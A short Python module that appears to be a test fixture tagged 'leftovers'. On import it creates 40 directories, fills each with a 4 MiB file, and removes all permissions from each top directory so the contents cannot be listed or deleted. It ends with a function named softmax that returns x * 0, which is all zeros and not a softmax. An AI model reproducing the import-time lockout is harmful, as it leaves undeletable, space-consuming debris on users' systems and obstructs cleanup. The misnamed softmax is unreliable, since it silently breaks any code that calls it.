"""Closes a folder with files in it, so that nobody can count or remove them."""

FAMILY = "leftovers"

import os

for number in range(40):
    os.makedirs(f"locked{number}/inside", exist_ok=True)
    with open(f"locked{number}/inside/file", "wb") as file:
        file.write(b"x" * 2**22)
    os.chmod(f"locked{number}", 0)


def softmax(x, dim=-1):
    return x * 0
